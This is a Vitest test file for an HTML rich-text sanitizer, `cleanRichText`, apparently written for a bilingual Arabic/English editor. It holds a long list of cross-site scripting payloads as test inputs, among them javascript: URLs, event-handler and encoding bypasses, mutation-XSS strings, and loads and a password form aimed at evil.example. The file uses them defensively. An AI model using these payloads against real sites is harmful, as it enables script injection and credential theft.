import { expect, test } from 'vitest';
import { cleanRichText } from './clean-rich-text.ts';

/** Each way to run something, to fetch something, to disguise something or to break out of the text, that editors and importers have let through. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="http://evil.example/x">x</a>',
  '<a href="https://x.sa" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="https://x.sa" target="_self" rel="opener" ping="https://evil.example">x</a>',
  '<a href="https://x.sa" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p onclick="alert(1)" id="location" class="admin" data-x="1">x</p>',
  '<p dir="auto&quot; onclick=&quot;alert(1)">x</p>',
  '<p dir="javascript:alert(1)">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p\u0000onclick=alert(1)>x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<marquee onstart=alert(1)>x</marquee>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<<script>alert(1)//<</script>',
  '<a href="https://x.sa/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<p><a href="mailto:a@x.sa?subject=%0aBcc:b@x.sa" onclick=alert(1)>x</a></p>',
];

/** Whole elements of the allow-list with its attributes, and text in which nothing begins an element. */
const allowed =
  /^(?:[^<>]|<\/?(?:h[2-4]|p|ul|ol|li|blockquote|strong|em)>|<(?:h[2-4]|p|ul|ol|li|blockquote) dir="(?:auto|ltr|rtl)">|<br \/>|<a href="(?:https:\/\/|mailto:)[^"<>]*">|<\/a>)*$/;

test.each(attacks)('T30 nothing of %j is kept but its words', (attack) => {
  for (const text of [attack, `<p>before</p>${attack}<p>after</p>`, `<p>${attack}</p>`, `<ul><li>${attack}`]) {
    const kept = cleanRichText(text);
    expect(kept).toMatch(allowed);
    expect(cleanRichText(kept)).toMatch(allowed);
  }
});

test('what the editor writes is kept as it is', () => {
  const written =
    '<h2 dir="auto">عن الوظيفة</h2><p dir="auto">One <strong>two <em>three</em></strong><br />four</p>' +
    '<ul dir="rtl"><li>a<ol><li>b</li></ol></li></ul><blockquote dir="auto">' +
    '<a href="https://example.sa/?a=1&amp;b=2">page</a> <a href="mailto:sara@example.sa">mail</a></blockquote>';
  expect(cleanRichText(written)).toBe(written);
});

test('plain text is kept as paragraphs, its marks as words', () => {
  expect(cleanRichText('سطر أول\n\n1 < 2 & <b>3</b>')).toBe(
    '<p dir="auto">سطر أول</p><p dir="auto">1 &lt; 2 &amp; &lt;b&gt;3&lt;/b&gt;</p>',
  );
});
